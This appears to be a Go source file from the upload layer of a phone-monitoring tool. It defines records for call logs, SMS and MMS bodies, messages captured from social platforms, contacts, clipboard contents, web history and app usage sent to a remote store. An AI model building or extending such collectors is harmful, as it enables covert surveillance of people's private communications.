package uploader

// Record variants carry the exact field names their store nodes use. Each
// payload() builds the map written at the record's path. Records are built
// by the collectors and treated as immutable after upload; Contact is the
// one mutable exception (diffed against the stored value on every upload).

// Call is one call-log entry.
type Call struct {
	UniqueID    string
	Date        string // calendar day the call falls on
	Duration    string
	Number      string
	Type        string
	Timestamp   int64
	ContactName string
}

func (c Call) payload() map[string]any {
	return map[string]any{
		"date":        c.Date,
		"duration":    c.Duration,
		"number":      c.Number,
		"type":        c.Type,
		"timestamp":   c.Timestamp,
		"contactName": c.ContactName,
	}
}

// SMS is one short message.
type SMS struct {
	UniqueID    string
	Type        string // inbox, sent
	Address     string
	Body        string
	Timestamp   int64
	Date        string
	ContactName string
}

func (s SMS) payload() map[string]any {
	return map[string]any{
		"type":        s.Type,
		"address":     s.Address,
		"body":        s.Body,
		"timestamp":   s.Timestamp,
		"date":        s.Date,
		"contactName": s.ContactName,
	}
}

// MMS is one multimedia message.
type MMS struct {
	UniqueID      string
	Subject       string
	Date          string
	SenderAddress string
	Content       string
}

func (m MMS) payload() map[string]any {
	return map[string]any{
		"subject":       m.Subject,
		"date":          m.Date,
		"senderAddress": m.SenderAddress,
		"content":       m.Content,
	}
}

// SocialMessage is one message captured from a social platform.
type SocialMessage struct {
	UniqueID  string
	Date      string
	Platform  string
	Sender    string
	Receiver  string
	Message   string
	Timestamp int64
	Direction string // incoming, outgoing
}

func (m SocialMessage) payload() map[string]any {
	return map[string]any{
		"sender":    m.Sender,
		"receiver":  m.Receiver,
		"message":   m.Message,
		"timestamp": m.Timestamp,
		"direction": m.Direction,
		"platform":  m.Platform,
	}
}

// Contact is an address-book entry. Unlike the other variants it is mutable:
// re-uploads are diffed against the stored value and only written on change.
type Contact struct {
	UniqueID               string
	Name                   string
	PhoneNumber            string
	NameBeforeModification string
	CreationTime           int64
	LastModifiedTime       int64
}

func (c Contact) payload() map[string]any {
	return map[string]any{
		"name":                   c.Name,
		"phoneNumber":            c.PhoneNumber,
		"nameBeforeModification": c.NameBeforeModification,
		"creationTime":           c.CreationTime,
		"lastModifiedTime":       c.LastModifiedTime,
	}
}

// Clipboard is one clipboard capture.
type Clipboard struct {
	Content   string
	Timestamp int64
}

func (c Clipboard) payload() map[string]any {
	return map[string]any{
		"content":   c.Content,
		"timestamp": c.Timestamp,
	}
}

// WebVisit is one browser navigation. Key is assigned on first upload and
// reused on re-upload so a visit updated in place keeps its node.
type WebVisit struct {
	Key       string
	Date      string
	URL       string
	Title     string
	Timestamp int64
}

func (w WebVisit) payload() map[string]any {
	return map[string]any{
		"url":       w.URL,
		"title":     w.Title,
		"timestamp": w.Timestamp,
		"date":      w.Date,
	}
}

// AppUsageSnapshot is a periodic usage measurement for one package. It is
// not a session: snapshots merge additively into the day's node.
type AppUsageSnapshot struct {
	PackageName         string
	AppName             string
	UsageDuration       int64
	LaunchCount         int64
	LastTimeUsed        int64
	FirstTimeUsed       int64
	TotalForegroundTime int64
	DayLaunchCount      int64
	DayUsageTime        int64
	IsSystemApp         bool
	Category            string
	Timestamp           int64
}

func (a AppUsageSnapshot) payload(now int64) map[string]any {
	return map[string]any{
		"package_name":          a.PackageName,
		"app_name":              a.AppName,
		"usage_duration":        a.UsageDuration,
		"launch_count":          a.LaunchCount,
		"last_used":             a.LastTimeUsed,
		"first_time_used":       a.FirstTimeUsed,
		"total_foreground_time": a.TotalForegroundTime,
		"day_launch_count":      a.DayLaunchCount,
		"day_usage_time":        a.DayUsageTime,
		"is_system_app":         a.IsSystemApp,
		"category":              a.Category,
		"last_update_time":      now,
		"timestamp":             a.Timestamp,
	}
}
